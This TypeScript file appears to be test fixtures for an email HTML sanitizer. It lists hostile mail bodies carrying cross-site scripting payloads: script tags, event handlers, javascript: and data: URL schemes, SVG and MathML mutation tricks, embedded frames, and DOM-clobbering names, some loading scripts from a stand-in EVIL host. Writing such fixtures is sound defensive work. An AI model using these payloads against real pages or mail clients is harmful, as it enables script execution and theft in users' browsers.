import { EVIL, HACK, HACK_IN_ATTRIBUTE, type HostileMail } from './hostileMail.ts';

const URL_SCHEMES = [
  `javascript:${HACK_IN_ATTRIBUTE}`,
  `JaVaScRiPt:${HACK_IN_ATTRIBUTE}`,
  `java&#10;script:${HACK_IN_ATTRIBUTE}`,
  `&#1;javascript:${HACK_IN_ATTRIBUTE}`,
  `&#x6A;avascript&colon;${HACK_IN_ATTRIBUTE}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${HACK_IN_ATTRIBUTE}</script>`,
  `data:text/html;base64,${Buffer.from(`<script>${HACK}</script>`).toString('base64')}`,
  `blob:${EVIL}/1`,
  `file:///etc/passwd`,
];

/** Mails that want to run something. */
export const SCRIPTS: readonly HostileMail[] = [
  { name: 'a script', html: `<p>Hi</p><script>${HACK}</script>` },
  { name: 'a script from elsewhere', html: `<script src="${EVIL}/a.js"></script><p>Hi</p>` },
  { name: 'a script of another case', html: `<ScRiPt/x>${HACK}</sCrIpT ><p>Hi</p>` },
  { name: 'a script inside a script', html: `<scr<script>ipt>${HACK}</scr</script>ipt><p>Hi</p>` },
  {
    name: 'a module',
    html: `<script type="module">${HACK}</script><link rel="modulepreload" href="${EVIL}/m.js">`,
  },
  {
    name: 'handlers',
    html: `<img src="x" onerror="${HACK_IN_ATTRIBUTE}"><body onload="${HACK_IN_ATTRIBUTE}"><div onmouseover="${HACK_IN_ATTRIBUTE}" onclick="${HACK_IN_ATTRIBUTE}" onfocus="${HACK_IN_ATTRIBUTE}" tabindex="1" autofocus>Hi</div><details open ontoggle="${HACK_IN_ATTRIBUTE}">x</details><video><source onerror="${HACK_IN_ATTRIBUTE}"></video><marquee onstart="${HACK_IN_ATTRIBUTE}">x</marquee>`,
  },
  {
    name: 'handlers without spaces',
    html: `<img/src="x"/onerror="${HACK_IN_ATTRIBUTE}"><svg/onload="${HACK_IN_ATTRIBUTE}"><p style="animation-name:x" onanimationstart="${HACK_IN_ATTRIBUTE}">Hi</p>`,
  },
  {
    name: 'addresses that run',
    html: URL_SCHEMES.map(
      (url) =>
        `<a href="${url}">a link</a><img src="${url}"><table background="${url}"><tr><td background="${url}">x</td></tr></table>`,
    ).join(''),
  },
  {
    name: 'svg',
    html: `<svg><script>${HACK}</script><animate onbegin="${HACK_IN_ATTRIBUTE}" attributeName="x" dur="1s"/><a xlink:href="javascript:${HACK_IN_ATTRIBUTE}"><text>x</text></a><foreignObject><img src="x" onerror="${HACK_IN_ATTRIBUTE}"></foreignObject><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${HACK_IN_ATTRIBUTE}</script></svg>#x"/></svg><p>Hi</p>`,
  },
  {
    name: 'mathml and its ways out',
    html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${HACK_IN_ATTRIBUTE}&gt;"></mglyph></table></mtext></math><form><math><mtext></form><form><mglyph><style></math><img src onerror="${HACK_IN_ATTRIBUTE}"></style></mglyph></form><p>Hi</p>`,
  },
  {
    name: 'text that turns into elements when it is read twice',
    html: `<noscript><p title="</noscript><img src=x onerror=${HACK_IN_ATTRIBUTE}>"></noscript><textarea></textarea><title></title><xmp><img src=x onerror="${HACK_IN_ATTRIBUTE}"></xmp><template><img src=x onerror="${HACK_IN_ATTRIBUTE}"></template><!--><img src=x onerror="${HACK_IN_ATTRIBUTE}">--><![CDATA[<script>${HACK}</script>]]><p>Hi</p>`,
  },
  {
    name: 'pages inside the page',
    html: `<iframe src="javascript:${HACK_IN_ATTRIBUTE}"></iframe><iframe srcdoc="<script>${HACK_IN_ATTRIBUTE}</script>"></iframe><iframe src="/inbox"></iframe><object data="data:text/html,<script>${HACK_IN_ATTRIBUTE}</script>"></object><embed src="${EVIL}/a.swf"><applet code="x"></applet><portal src="${EVIL}"></portal><p>Hi</p>`,
  },
  {
    name: 'names that hide what the page has',
    html: `<form id="app"><input name="body"><input name="attributes"><input name="nodeName"></form><a id="firebase" name="firebase" href="${EVIL}">x</a><img name="currentScript"><img name="getElementById"><iframe name="hacked"></iframe><p id="main">Hi</p>`,
  },
];
